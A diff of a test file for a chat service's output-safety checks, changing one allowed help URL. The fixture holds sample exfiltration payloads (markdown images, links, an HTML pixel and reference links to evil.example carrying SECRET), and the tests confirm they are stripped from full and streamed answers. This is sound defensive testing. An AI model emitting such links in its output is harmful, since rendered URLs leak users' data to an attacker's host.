@@ -575,7 +575,7 @@ describe('chat service (tenants, rag and chat as processes; real SDKs against a 
 
   describe('output safety', () => {
     const poisoned =
-      'Vouchers last 12 months [1]. ![x](http://evil.example/?q=SECRET) See [our help](https://acme.example/help), ' +
+      'Vouchers last 12 months [1]. ![x](http://evil.example/?q=SECRET) See [our help](https://acme-chat.example/help), ' +
       '[the widget](https://widget.acme-cdn.example/faq) or [this](http://evil.example/steal?d=SECRET). ' +
       '<img src="http://evil.example/p.png?q=SECRET" alt="pixel"> <http://evil.example/a?q=SECRET> ' +
       'Also [ref][r].\n\n[r]: http://evil.example/r?q=SECRET\n';
@@ -592,7 +592,7 @@ describe('chat service (tenants, rag and chat as processes; real SDKs against a 
       expect(answer.response).not.toContain('SECRET');
       expect(answer.response).not.toMatch(/evil\.example\//);
       expect(answer.response).toContain('Vouchers last 12 months [1].');
-      expect(answer.response).toContain('[our help](https://acme.example/help)');
+      expect(answer.response).toContain('[our help](https://acme-chat.example/help)');
       expect(answer.response).toContain('[the widget](https://widget.acme-cdn.example/faq)');
       expect(answer.response).toContain('or this.');
     });
@@ -607,7 +607,7 @@ describe('chat service (tenants, rag and chat as processes; real SDKs against a 
       for (const delta of deltas) expect(delta).not.toMatch(/evil\.example\/|SECRET/);
       const streamed = deltas.join('');
       expect(streamed).not.toMatch(/evil\.example\/|SECRET/);
-      expect(streamed).toContain('[our help](https://acme.example/help)');
+      expect(streamed).toContain('[our help](https://acme-chat.example/help)');
       expect(events.at(-1)).toMatchObject({ type: 'done', response: streamed });
     });
 
